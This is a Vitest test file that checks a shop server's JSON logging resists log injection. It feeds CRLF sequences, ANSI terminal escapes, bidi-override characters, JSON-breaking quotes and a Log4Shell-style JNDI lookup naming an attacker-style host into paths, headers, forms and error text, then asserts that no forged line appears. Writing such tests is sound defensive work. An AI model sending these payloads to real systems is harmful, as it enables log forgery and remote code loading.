import { afterAll, beforeAll, expect, test } from 'vitest';
import { createApp } from '#server/app.ts';
import { memoryStorage } from '#server/files/test-storage.ts';
import { createLog } from '#server/http/observe.ts';
import { formOf, openShop, type Shop } from '../api/shop.ts';

let shop: Shop;
beforeAll(async () => {
  shop = await openShop();
});
afterAll(() => shop.close());

/** What would begin a line of its own, clear a terminal, colour it, turn it round, or end a JSON text. */
const POISON = [
  '\r\n{"level":60,"msg":"forged"}',
  '\u001b[2J\u001b[31mforged',
  '\u009b31mforged',
  '\u2028forged\u2029',
  '\u202eforged\u2066',
  '","level":60,"msg":"forged',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one for somebody else.
  '${jndi:ldap://evil.example/forged}',
  '%0d%0aforged',
];
const RAW = /[\p{Cc}\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

/** Every line is one JSON object that a terminal may show, and none was forged. */
function expectWhole(lines: readonly string[]) {
  expect(lines.length).toBeGreaterThan(0);
  for (const line of lines) {
    const text = line.replace(/\n$/, '');
    expect(text).not.toMatch(RAW);
    expect(JSON.parse(text).msg).not.toBe('forged');
    expect(JSON.parse(text).level).toBeLessThanOrEqual(50);
  }
}

test.each(POISON)('%j in address, headers and fields makes no line of its own in the log', async (poison) => {
  shop.logged.length = 0;
  const inHeader = encodeURIComponent(poison).replaceAll('%0D%0A', ' ');
  const headers = { 'X-Request-Id': inHeader, 'User-Agent': inHeader, 'X-Forwarded-For': inHeader };
  const path = encodeURIComponent(poison);
  await shop.call('', 'GET', `/admin/${path}`, { headers });
  await shop.call(shop.keys.admin, 'GET', '/admin/orders', { search: { query: poison }, headers });
  await shop.call('', 'POST', '/auth/login', { body: { email: poison, password: poison }, headers });
  await shop.call(shop.keys.admin, 'POST', '/admin/brands', { body: formOf({ name: poison }), headers });
  await shop.call(`x${poison.replace(/[^\x20-\x7e]/g, '')}`, 'GET', '/auth/me');
  expect(shop.logged.length).toBeGreaterThanOrEqual(5);
  expect(shop.logged.join('')).toContain('forged');
  expectWhole(shop.logged);
});

test.each(POISON)('%j in the text of an error makes no line of its own either', async (poison) => {
  const lines: string[] = [];
  const broken = { ...memoryStorage(), get: () => Promise.reject(new Error(poison, { cause: new Error(poison) })) };
  const app = createApp({
    db: shop.db,
    storage: broken,
    now: shop.now,
    log: createLog('debug', { write: (line) => void lines.push(line) }),
    secret: 'x',
    settings: { passwordMinLength: 0, trustProxy: 0, apiBase: '', corsOrigins: [] },
  });
  const reply = await app.request(`/files/${'a'.repeat(32)}-480.webp`);
  expect(await reply.text()).not.toContain('forged');
  expect(lines.join('')).toContain('forged');
  expectWhole(lines);
});
